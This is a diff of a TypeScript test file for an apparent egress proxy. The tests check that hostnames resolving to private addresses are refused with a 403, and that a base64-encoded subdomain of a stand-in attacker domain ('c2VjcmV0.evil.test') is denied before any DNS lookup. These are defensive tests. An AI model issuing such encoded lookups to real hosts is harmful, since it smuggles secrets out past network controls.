@@ -147,14 +147,15 @@ describe("a name that leads inwards", () => {
   it("among others is left out, and held against the policy's rules on addresses", async () => {
     const denied = [{ rule: 3, audit: true, cidr: "127.0.0.2/32", ports: [] }];
     use = await world({ default_action: "allow", default_rule: null, denied, resolve: () => ["10.0.0.1", "127.0.0.2"] });
-    expect(await talk(use.dial("two.test", use.http), get("two.test"))).toBe("");
+    expect(await talk(use.dial("two.test", use.http), get("two.test"))).toMatch(/^HTTP\/1.1 403 [\s\S]*belongs to a private/);
+    expect(use.reached).toEqual([]);
     expect(denials()).toEqual(["egress/forbidden-address"]);
   });
 
   it("is not even asked for where nothing could allow it: a question, too, carries something out", async () => {
     const asked: string[] = [];
     use = await world({ http: [allow(["api.test"])], resolve: (name) => ["8.8.8.8"].slice(asked.push(name) - 1) });
-    expect(await talk(use.dial("c2VjcmV0.evil.test", 443), get("c2VjcmV0.evil.test"))).toBe("");
+    expect(await talk(use.dial("c2VjcmV0.evil.test", 443), get("c2VjcmV0.evil.test"))).toContain("was denied: rule0 (spec[0])");
     expect(asked).toEqual([]);
   });
 });
